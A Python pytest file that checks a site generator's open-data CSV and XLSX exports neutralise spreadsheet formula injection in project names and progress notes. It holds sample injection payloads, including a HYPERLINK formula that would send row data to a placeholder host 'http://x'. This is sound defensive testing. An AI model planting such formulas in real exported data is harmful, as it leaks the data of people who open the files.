"""Open-data downloads never carry a formula: text a spreadsheet would run stays text.

Names and progress notes are the contributors' words. A name such as
``=HYPERLINK("http://x"&A2,"点击查看")`` opened in Excel or WPS from projects.xlsx or
projects.csv would be a live link that sends the row's neighbours away; ``+``, ``-``, ``@``
and a leading tab or CR start formulas too. The downloads come from a rendered public site.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile
from pathlib import Path

import pytest
from conftest import make_minimal_data
from openpyxl import load_workbook

from generator.model.dataset import Dataset
from generator.rules.check import check
from generator.site.render import render_site

PAYLOADS = {
    "XC-011": '=HYPERLINK("http://x"&A2,"点击查看")',
    "XC-012": "+1",
    "XC-013": "-2",
    "XC-014": "@SUM(1)",
    "XC-015": "\t=1+1",
    "XC-016": "\r=1+1",
}
NEGATIVE = -5.0  # check refuses it (below-minimum); the writer must still keep it a number


def _hostile(tmp_path: Path) -> Dataset:
    """The minimal data with one disclosed project per payload, named with it, whose March
    record carries it as the progress note; the first record's completed is negative."""
    dataset, findings = check(make_minimal_data(tmp_path))
    assert dataset is not None, findings
    base = dataset.projects["XC-001"]
    [record] = [r for r in dataset.records if r.data.project == "XC-001"]
    projects = dict(dataset.projects)
    records = [dataclasses.replace(record, data=record.data.model_copy(
        update={"completed": NEGATIVE}))]
    for code, payload in PAYLOADS.items():
        projects[code] = base.model_copy(update={"code": code, "name": payload})
        records.append(dataclasses.replace(record, data=record.data.model_copy(
            update={"project": code, "progress": payload})))
    files = {code: f"data/projects/{code}.yaml" for code in projects}
    # Bypassing check on purpose: the writer is what must hold, whatever check lets through.
    return dataclasses.replace(dataset, projects=projects, project_files=files, records=records)


@pytest.fixture(scope="module")
def downloads(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    site = render_site(_hostile(tmp_path_factory.mktemp("formulas")), "public")
    return {path: file.data for path, file in site.files.items()
            if path.startswith("opendata/") and file.data is not None}


def _csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("name", ["projects.xlsx", "monthly.xlsx"])
def test_no_sheet_holds_a_formula(downloads: dict[str, bytes], name: str) -> None:
    with zipfile.ZipFile(io.BytesIO(downloads[f"opendata/{name}"])) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for sheet in sheets:
            assert not re.search(rb"<f[ >/]", archive.read(sheet)), sheet


def test_xlsx_cells_keep_the_text_as_text(downloads: dict[str, bytes]) -> None:
    for name, column in (("projects.xlsx", "项目名称"), ("monthly.xlsx", "形象进度")):
        sheet = load_workbook(io.BytesIO(downloads[f"opendata/{name}"])).worksheets[0]
        header = [c.value for c in sheet[1]]
        cells = [row[header.index(column)] for row in sheet.iter_rows(min_row=2)]
        hostile = [c for c in cells if c.value in PAYLOADS.values()]
        assert sorted(c.value for c in hostile) == sorted(PAYLOADS.values()), name
        for cell in hostile:
            assert cell.data_type == "s" and cell.quotePrefix, (name, cell.value)


def test_csv_cells_start_with_an_apostrophe(downloads: dict[str, bytes]) -> None:
    projects = {r["code"]: r for r in _csv(downloads["opendata/projects.csv"])}
    monthly = {r["project"]: r for r in _csv(downloads["opendata/monthly.csv"])}
    for code, payload in PAYLOADS.items():
        assert projects[code]["name"] == "'" + payload
        assert monthly[code]["name"] == "'" + payload
        assert monthly[code]["progress"] == "'" + payload


def test_a_negative_number_stays_a_number(downloads: dict[str, bytes]) -> None:
    monthly = {r["project"]: r for r in _csv(downloads["opendata/monthly.csv"])}
    assert monthly["XC-001"]["completed"] == "-5"
    sheet = load_workbook(io.BytesIO(downloads["opendata/monthly.xlsx"])).worksheets[0]
    header = [c.value for c in sheet[1]]
    column = next(i for i, title in enumerate(header) if title.startswith("本月完成投资"))
    [cell] = [row[column] for row in sheet.iter_rows(min_row=2)
              if row[header.index("项目编号")].value == "XC-001"]
    assert cell.value == NEGATIVE and cell.data_type == "n" and not cell.quotePrefix


def test_rows_are_written_without_scanning_the_sheet(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each row is made text-safe as it is appended: looking the row up afterwards scanned
    every cell of the sheet per row, and the records export of 10,000 projects (360,000
    rows) ran for most of an hour. Scans (max_row, max_column) stay as many however many
    rows there are."""
    import datetime as dt

    from openpyxl.worksheet.worksheet import Worksheet

    from generator.present import opendata

    scans = [0]
    for name in ("max_row", "max_column"):
        real = getattr(Worksheet, name)

        def counted(self: Worksheet, real: property = real) -> int:
            scans[0] += 1
            return real.fget(self)  # type: ignore[no-any-return]

        monkeypatch.setattr(Worksheet, name, property(counted))
    columns = opendata.flat_fields(opendata.RECORD_FIELDS)
    moment = dt.datetime(2025, 10, 31)
    counts = []
    for size in (5, 200):
        scans[0] = 0
        rows = [{f.name: ("=1+1" if i % 2 else "文本") for f in columns} for i in range(size)]
        data = opendata.to_xlsx(rows, opendata.RECORD_FIELDS, "数据", moment, "县")
        counts.append(scans[0])
    assert counts[0] == counts[1]
    monkeypatch.undo()
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.max_row == 201
    cell = sheet.cell(row=3, column=1)
    assert cell.value == "=1+1" and cell.data_type == "s" and cell.quotePrefix
